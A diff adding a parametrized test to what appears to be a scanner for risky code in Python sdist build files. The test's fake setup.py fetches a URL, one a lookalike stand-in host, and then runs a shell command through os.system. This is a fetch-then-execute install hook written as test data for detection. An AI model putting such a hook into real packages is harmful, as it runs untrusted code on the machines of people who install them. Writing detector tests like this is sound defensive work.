@@ -101,3 +101,15 @@ def test_a_subdirectory_of_meson_knows_what_stands_above() -> None:
     ]
     files["meson.build"] += "py = 'sh'\n"
     assert "python" not in program_of("sdist", files).flows[0].text
+
+
+@pytest.mark.parametrize(
+    ("host", "severity"),
+    [
+        ("https://a.python.org/", Severity.HIGH),
+        ("https://python.org.a.example.invalid/", Severity.CRITICAL),
+    ],
+)
+def test_an_installer_that_brings_its_tools(host: str, severity: Severity) -> None:
+    text = f"import os, urllib.request\nurllib.request.urlopen({host!r})\nos.system('sh x')\n"
+    assert worst_of("uncalled-chain", program_of("sdist", {"setup.py": text})) is severity
